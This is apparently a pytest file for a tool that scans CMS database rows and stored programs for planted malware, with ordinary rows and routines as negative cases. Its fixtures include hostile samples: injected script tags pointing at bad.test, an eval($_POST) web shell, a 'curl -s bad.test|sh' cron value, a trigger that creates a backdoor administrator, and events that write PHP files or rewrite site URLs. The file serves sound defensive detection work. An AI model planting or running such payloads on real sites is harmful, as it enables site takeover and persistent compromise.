"""Rows and stored programs of made-up sites, some of them planted."""

import base64
import random
import zlib
from collections.abc import Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from unhijack.core.rows import Routine, RoutineKind, Row, Table
from unhijack.parse.plain.marks import Mark
from unhijack.parse.server.routines import judge_routine
from unhijack.parse.server.rows import NOT_RUN, RowJudge, RowMark, mended
from unhijack.parse.server.serialised import read

OPTIONS = Table("wp_options", ("option_id", "option_name", "option_value"), ("option_id",))
POSTS = Table("x7_posts", ("ID", "post_content", "post_title"), ("ID",))
USERS = Table("wp_users", ("ID", "user_login", "user_email", "user_registered"), ("ID",))
META = Table("wp_usermeta", ("umeta_id", "user_id", "meta_key", "meta_value"), ("umeta_id",))
CONFIG = Table("core_config_data", ("config_id", "scope", "path", "value"), ("config_id",))

PLANTED = b"<script src=//bad.test/a.js></script>"


def look(name: str, content: bytes) -> Sequence[Mark]:
    """A reader that knows one planted block, and one call."""
    at = content.find(PLANTED if name == "row.html" else b"eval(")
    if at < 0:
        return ()
    end = at + (len(PLANTED) if name == "row.html" else 5)
    return (Mark(name, "injection", 0.95, "planted", at, end, (at, end)),)


def judged(*rows: Row, own_hosts: Sequence[str] = ()) -> list[RowMark]:
    judge = RowJudge(look, own_hosts)
    return [one for row in rows for one in judge.judge(row)] + list(judge.finish())


def option(name: bytes, value: bytes) -> Row:
    return Row(OPTIONS, (b"7", name, value))


def test_a_script_in_a_post_is_found_and_can_be_cut_from_its_value():
    (found,) = judged(Row(POSTS, (b"3", b"<p>Bread</p>" + PLANTED + b" daily", b"Home")))
    assert (found.table, found.key, found.column) == ("x7_posts", (("ID", b"3"),), "post_content")
    assert mended(found) == b"<p>Bread</p> daily"


def test_a_widget_is_mended_with_true_lengths():
    text = b"hours" + PLANTED
    value = b'a:1:{i:2;a:1:{s:7:"content";s:%d:"%s";}}' % (len(text), text)
    (found,) = judged(option(b"widget_custom_html", value))
    clean = mended(found)
    assert clean == b'a:1:{i:2;a:1:{s:7:"content";s:5:"hours";}}'
    assert read(clean) is not None


def test_php_in_a_post_is_weaker_than_php_in_a_snippet():
    post = judged(Row(POSTS, (b"1", b"how <?php eval($x); ?> works", b"A lesson")))
    snippets = Table("wp_snippets", ("id", "name", "code"), ("id",))
    code = judged(Row(snippets, (b"1", b"mine", b"eval($_POST['x']);")))
    assert [one.marks[0].confidence for one in post] == [NOT_RUN]
    assert [one.marks[0].confidence for one in code] == [0.95]
    assert code[0].marks[0].start == 0
    assert mended(code[0]) == b"$_POST['x']);"


@pytest.mark.parametrize(
    ("row", "rule"),
    [
        (option(b"siteurl", b"https://bad.test/in.js?x="), "sql-home-script"),
        (option(b"home", b"https://bad.test"), "sql-home-foreign"),
        (option(b"active_plugins", b'a:1:{i:0;s:14:"../tmp/x/y.ico";}'), "sql-odd-plugin"),
        (option(b"active_plugins", b'a:1:{i:0;s:10:".wp/wp.php";}'), "sql-odd-plugin"),
        (option(b"default_role", b"administrator"), "sql-default-role"),
        (option(b"blogname", b"Bakery<script>go('x')</script>"), "sql-name-script"),
        (Row(POSTS, (b"1", b"", b"<script src=//bad.test/>")), "sql-name-script"),
        (
            Row(CONFIG, (b"1", b"default", b"web/secure/base_url", b"//bad.test/?")),
            "sql-home-script",
        ),
        (
            Row(
                CONFIG,
                (b"1", b"default", b"crontab/default/jobs/x/run/model", b"curl -s bad.test|sh"),
            ),
            "sql-config-job",
        ),
        (
            Row(
                Table("x_session", ("session_id", "data")),
                (b"1", b'__default|a:1:{i:0;O:21:"JDatabaseDriverMysqli":0:{}}'),
            ),
            "sql-gadget",
        ),
        (
            Row(
                Table("menu_router", ("path", "access_callback", "page_callback")),
                (b"x", b"1", b"file_put_contents"),
            ),
            "sql-router-callback",
        ),
        (
            Row(
                Table("layout_update", ("layout_update_id", "xml")),
                (b"1", b'<action method="x"><argument name="a">system</argument></action>'),
            ),
            "sql-layout-call",
        ),
        (
            Row(
                Table("cms_block", ("block_id", "content")),
                (b"1", b"{{var this.getTemplateFilter().filter(x)}}"),
            ),
            "sql-template-call",
        ),
    ],
)
def test_what_only_a_database_has_is_found(row: Row, rule: str):
    found = judged(row, own_hosts=["bakery.test"])
    assert [one.rule for mark in found for one in mark.marks] == [rule]


@pytest.mark.parametrize(
    "row",
    [
        option(b"siteurl", b"https://www.bakery.test"),
        option(b"home", b"https://bakery.test/shop"),
        option(b"active_plugins", b'a:2:{i:0;s:9:"hello.php";i:1;s:19:"akismet/akismet.php";}'),
        option(b"stylesheet", b"twentytwenty"),
        option(b"default_role", b"subscriber"),
        Row(POSTS, (b"1", b"<p>Plain &lt;?php eval( text</p>", b"Eval (a <b>word</b>)")),
        Row(CONFIG, (b"1", b"default", b"crontab/default/jobs/x/run/model", b"Mage\\Job::run")),
        Row(Table("cms_page", ("page_id", "content")), (b"1", b'{{block class="X" name="y"}}')),
    ],
)
def test_ordinary_rows_show_nothing(row: Row):
    assert judged(row, own_hosts=["bakery.test"]) == []


CODE = b"<?php echo 'nothing but a harmless line of made-up code';\n" * 9


@pytest.mark.parametrize(
    "value",
    [
        base64.b64encode(CODE),
        base64.encodebytes(CODE),
        CODE.hex().encode(),
        base64.b64encode(zlib.compress(CODE + random.Random(1).randbytes(300).hex().encode())),
        base64.b64encode(base64.b64encode(CODE)).rstrip(b"="),
    ],
)
def test_code_in_disguise_is_found(value: bytes):
    (found,) = judged(option(b"_x_cache", value))
    assert [one.rule for one in found.marks] == ["sql-coded-value"]


def test_a_coded_picture_or_key_is_no_code():
    dice = random.Random(3)
    assert judged(option(b"logo", base64.b64encode(dice.randbytes(3000)))) == []
    assert judged(option(b"key", dice.randbytes(400).hex().encode())) == []
    assert judged(option(b"text", base64.b64encode(b"a quiet text about bread. " * 50))) == []


def test_two_addresses_of_one_site_that_differ_are_said_at_the_end():
    found = judged(option(b"siteurl", b"https://bakery.test"), option(b"home", b"https://bad.test"))
    assert [one.marks[0].rule for one in found] == ["sql-two-homes"]
    same = judged(
        option(b"siteurl", b"https://bakery.test"), option(b"home", b"https://www.bakery.test")
    )
    assert same == []


def test_an_administrator_written_by_hand_is_a_weak_sign():
    rights = Row(META, (b"1", b"900001", b"wp_capabilities", b'a:1:{s:13:"administrator";b:1;}'))
    found = judged(
        Row(USERS, (b"1", b"anna", b"anna@bakery.test", b"2020-01-01 10:00:00")),
        Row(USERS, (b"900001", b"support", b"", b"0000-00-00 00:00:00")),
        rights,
    )
    assert [one.rule for one in found[0].marks] == ["sql-odd-admin"] * 3
    assert all(one.confidence < 0.5 for one in found[0].marks)
    assert (
        judged(Row(USERS, (b"900001", b"anna", b"a@b.test", b"2020-01-01 10:00:00")), rights) == []
    )


def routine(text: bytes, kind: RoutineKind = RoutineKind.TRIGGER) -> Routine:
    return Routine(kind, "x", text)


BACK = b"""CREATE TRIGGER x AFTER INSERT ON wp_comments FOR EACH ROW BEGIN
 IF NEW.comment_content LIKE '%open the door%' THEN
  INSERT INTO wp_users (user_login, user_pass) VALUES ('a', 'b');
  INSERT INTO `wp_usermeta` (user_id, meta_key, meta_value)
   VALUES (9, 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}');
 END IF; END"""


@pytest.mark.parametrize(
    ("text", "kind", "rule"),
    [
        (BACK, RoutineKind.TRIGGER, "sql-routine-users"),
        (
            b"CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO UPDATE site.wp_options SET option_value ="
            b" 'https://bad.test' WHERE option_name = 'home'",
            RoutineKind.EVENT,
            "sql-routine-options",
        ),
        (
            b"CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO UPDATE wp_posts SET post_content ="
            b" CONCAT(post_content, 0x3c736372697074207372633d2f2f6261642e746573743e)",
            RoutineKind.EVENT,
            "sql-routine-texts",
        ),
        (
            b"CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO SELECT 'x' INTO OUTFILE '/srv/www/x.php'",
            RoutineKind.EVENT,
            "sql-routine-files",
        ),
        (
            b"CREATE FUNCTION f RETURNS STRING SONAME 'x.so'",
            RoutineKind.FUNCTION,
            "sql-routine-files",
        ),
    ],
)
def test_a_program_that_brings_it_back_is_sure(text: bytes, kind: RoutineKind, rule: str):
    found = judge_routine(routine(text, kind))
    assert [one.rule for one in found] == [rule]
    assert found[0].confidence >= 0.9


@pytest.mark.parametrize(
    "text",
    [
        b"CREATE TRIGGER t AFTER UPDATE ON wp_users FOR EACH ROW INSERT INTO audit (what) VALUES ('x')",
        b"CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW SET NEW.total = NEW.price * 2",
        b"CREATE PROCEDURE p() BEGIN SELECT 'INSERT INTO wp_users' FROM dual; END",
    ],
)
def test_ordinary_programs_show_nothing(text: bytes):
    assert judge_routine(routine(text)) == ()


def test_a_counter_and_an_export_are_no_sure_finding():
    counter = routine(
        b"CREATE TRIGGER t AFTER INSERT ON posts FOR EACH ROW UPDATE users SET n = n + 1"
    )
    export = routine(b"CREATE PROCEDURE p() SELECT * FROM t INTO OUTFILE '/var/lib/mysql/x.csv'")
    assert [one.confidence for one in judge_routine(counter)] == [0.4]
    assert [one.confidence for one in judge_routine(export)] == [0.5]


@given(st.lists(st.one_of(st.none(), st.binary(max_size=80)), min_size=3, max_size=3), st.binary())
def test_whatever_a_row_or_a_program_holds_nothing_raises(values: list[bytes | None], text: bytes):
    for table in (OPTIONS, POSTS, USERS, META, CONFIG):
        for one in judged(Row(table, tuple(values[: len(table.columns)]))):
            mended(one)
    judge_routine(routine(text))
